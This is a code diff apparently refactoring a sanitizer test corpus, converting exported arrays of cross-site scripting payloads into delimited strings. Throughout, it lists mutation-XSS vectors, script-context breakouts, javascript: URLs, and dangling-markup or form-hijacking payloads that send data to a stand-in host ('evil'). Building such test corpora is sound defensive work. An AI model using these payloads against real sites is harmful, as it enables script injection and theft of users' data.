@@ -38,84 +38,48 @@ export const entityUrls = parted(`
 javascript&colon;${run}¦java&Tab;script:${run}¦java&NewLine;script&colon;${run}¦&#106;avascript:${run}¦
 &#x6A&#x61vascript:${run}¦&#0000106avascript:${run}¦javascript:alert&lpar;1&rpar;¦&#14;javascript:${run}
 `);
-export const mutations = [
-  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${img}">`,
-  `<math><mtext><table><mglyph><style>${img}`,
-  `<svg></p><style><a id="</style>${img}">`,
-  `<noscript><p title="</noscript>${img}">`,
-  `<form><math><mtext></form><form><mglyph><style></math>${img}`,
-  `<math><annotation-xml encoding="text/html"><style>${img}</style></annotation-xml></math>`,
-  `<svg><title><style><!--</style>${img}--></style></title></svg>`,
-  `<svg><foreignobject><iframe srcdoc="${img.replace(">", "&gt;")}"></iframe></foreignobject></svg>`,
-  `<select><template><style><!--</style><a rel="--></style></template></select>${img}">`,
-  `<table><td><a title="</td></table>${img}">x</a></td></table>`,
-  `<p id="</p>${img}"><plaintext>`,
-  `<a title="&quot;&gt;&lt;img src=x onerror=${run}&gt;">x</a>`,
-  `&lt;img src=x onerror=${run}&gt;`,
-  `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
-  `<scr<script>ipt>${run}</scr</script>ipt>`,
-  `<<script>${run}//<</script>`,
-  `<img src="x\`><script>${run}</script>"\`>`,
-  `<svg><desc><![CDATA[</desc><script>${run}</script>]]></svg>`,
-  `<iframe><textarea></iframe>${img}`,
-  `<h2>${"<b>".repeat(40)}${img}</h2>`,
-];
-export const scripts = [
-  `<script>${run}</script>`,
-  `<ScRiPt >${run}</ScRiPt >`,
-  `<script\n>${run}</script\n>`,
-  `<script/x>${run}</script/x>`,
-  `<script src=${evil}/x.js></script>`,
-  `<script src=data:,${run}></script>`,
-  `<script type=module>import "${evil}/x.js"</script>`,
-  `<script type=importmap>{"imports":{"/build/":"${evil}/"}}</script>`,
-  `<script type=speculationrules>{"prefetch":[{"urls":["${evil}/x"]}]}</script>`,
-  `<svg><script href=data:,${run} />`,
-  `<svg><script>&#97;lert(1)</script>`,
-  `<math><script>${run}</script></math>`,
-  `</script><script>${run}</script><script type="application/ld+json">`,
-  `"}]}</script><script>${run}</script>`,
-  `<!--<script>${run}//--></script>`,
-  `<!--<script><!--</script>${img}`,
-  `";${run};//`,
-  `';${run};//`,
-  `\\";${run};//`,
-  `\u2028${run}\u2029//`,
-  `*/${run}/*`,
-];
-export const leading = [
-  `<base href=${evil}/>`,
-  `<meta http-equiv=refresh content="0;url=${evil}/">`,
-  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
-  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
-  `<meta name=referrer content=unsafe-url>`,
-  `<form action=${evil}/ id=f><button>x</button></form><button form=f autofocus>x</button>`,
-  `<form><button formaction=javascript:${run}>x</button></form>`,
-  `<input type=submit formaction=${evil}/ form=filter value=x>`,
-  `<isindex action=javascript:${run} type=image>`,
-  `<iframe src=javascript:${run}></iframe>`,
-  `<iframe src=${evil}/></iframe>`,
-  `<iframe srcdoc='<script>parent.${run}</script>'></iframe>`,
-  `<object data=javascript:${run}></object>`,
-  `<embed src=${evil}/x.svg>`,
-  `<portal src=${evil}/></portal>`,
-  `<a href="${evil}/" ping=${evil}/ping target=_blank>x</a>`,
-  `<area href=javascript:${run} shape=default>`,
-  `<img usemap=#m src=/favicon.ico><map name=m><area href=javascript:${run}></map>`,
-  `<img src='${evil}/?`,
-  `<a href='${evil}/'><base target='`,
-  `<textarea form=filter name=q>`,
-  `<form action=${evil}/><textarea name=stolen>`,
-  `<style>@import '${evil}/?`,
-  `<img srcset="${evil}/1.png 1x, ${evil}/2.png 2x">`,
-  `<picture><source srcset=${evil}/1.png><img src=/favicon.ico></picture>`,
-  `<video poster=${evil}/p.png src=${evil}/v.mp4 autoplay></video>`,
-  `<table background=${evil}/b.png><td background=${evil}/b.png>x</td></table>`,
-  `<input type=image src=${evil}/x.png>`,
-  `<link rel=stylesheet href=${evil}/x.css>`,
-  `<link rel=import href=${evil}/x.html>`,
-  `<link rel=prefetch href=${evil}/x>`,
-  `<link rel=modulepreload href=${evil}/x.js>`,
-  `<link rel=dns-prefetch href=//evil.test>`,
-  `<link rel=manifest href=data:,{}>`,
-];
+export const mutations = parted(`
+<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${img}">¦<math><mtext><table><mglyph><style>${img}¦
+<svg></p><style><a id="</style>${img}">¦<noscript><p title="</noscript>${img}">¦
+<form><math><mtext></form><form><mglyph><style></math>${img}¦
+<math><annotation-xml encoding="text/html"><style>${img}</style></annotation-xml></math>¦
+<svg><title><style><!--</style>${img}--></style></title></svg>¦
+<svg><foreignobject><iframe srcdoc="${img.replace(">", "&gt;")}"></iframe></foreignobject></svg>¦
+<select><template><style><!--</style><a rel="--></style></template></select>${img}">¦
+<table><td><a title="</td></table>${img}">x</a></td></table>¦<p id="</p>${img}"><plaintext>¦
+<a title="&quot;&gt;&lt;img src=x onerror=${run}&gt;">x</a>¦&lt;img src=x onerror=${run}&gt;¦
+&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;¦<scr<script>ipt>${run}</scr</script>ipt>¦
+<<script>${run}//<</script>¦<img src="x\`><script>${run}</script>"\`>¦
+<svg><desc><![CDATA[</desc><script>${run}</script>]]></svg>¦<iframe><textarea></iframe>${img}¦
+<h2>${"<b>".repeat(40)}${img}</h2>
+`);
+export const scripts = parted(`
+<script>${run}</script>¦<ScRiPt >${run}</ScRiPt >¦<script\n>${run}</script\n>¦<script/x>${run}</script/x>¦
+<script src=${evil}/x.js></script>¦<script src=data:,${run}></script>¦
+<script type=module>import "${evil}/x.js"</script>¦<script type=importmap>{"imports":{"/build/":"${evil}/"}}</script>¦
+<script type=speculationrules>{"prefetch":[{"urls":["${evil}/x"]}]}</script>¦<svg><script href=data:,${run} />¦
+<svg><script>&#97;lert(1)</script>¦<math><script>${run}</script></math>¦
+</script><script>${run}</script><script type="application/ld+json">¦"}]}</script><script>${run}</script>¦
+<!--<script>${run}//--></script>¦<!--<script><!--</script>${img}¦";${run};//¦';${run};//¦\\";${run};//¦
+\u2028${run}\u2029//¦*/${run}/*
+`);
+export const leading = parted(`
+<base href=${evil}/>¦<meta http-equiv=refresh content="0;url=${evil}/">¦
+<meta http-equiv=refresh content="0;url=javascript:${run}">¦
+<meta http-equiv=Content-Security-Policy content="script-src *">¦<meta name=referrer content=unsafe-url>¦
+<form action=${evil}/ id=f><button>x</button></form><button form=f autofocus>x</button>¦
+<form><button formaction=javascript:${run}>x</button></form>¦
+<input type=submit formaction=${evil}/ form=filter value=x>¦<isindex action=javascript:${run} type=image>¦
+<iframe src=javascript:${run}></iframe>¦<iframe src=${evil}/></iframe>¦
+<iframe srcdoc='<script>parent.${run}</script>'></iframe>¦<object data=javascript:${run}></object>¦
+<embed src=${evil}/x.svg>¦<portal src=${evil}/></portal>¦<a href="${evil}/" ping=${evil}/ping target=_blank>x</a>¦
+<area href=javascript:${run} shape=default>¦
+<img usemap=#m src=/favicon.ico><map name=m><area href=javascript:${run}></map>¦<img src='${evil}/?¦
+<a href='${evil}/'><base target='¦<textarea form=filter name=q>¦<form action=${evil}/><textarea name=stolen>¦
+<style>@import '${evil}/?¦<img srcset="${evil}/1.png 1x, ${evil}/2.png 2x">¦
+<picture><source srcset=${evil}/1.png><img src=/favicon.ico></picture>¦
+<video poster=${evil}/p.png src=${evil}/v.mp4 autoplay></video>¦
+<table background=${evil}/b.png><td background=${evil}/b.png>x</td></table>¦<input type=image src=${evil}/x.png>¦
+<link rel=stylesheet href=${evil}/x.css>¦<link rel=import href=${evil}/x.html>¦<link rel=prefetch href=${evil}/x>¦
+<link rel=modulepreload href=${evil}/x.js>¦<link rel=dns-prefetch href=//evil.test>¦<link rel=manifest href=data:,{}>
+`);
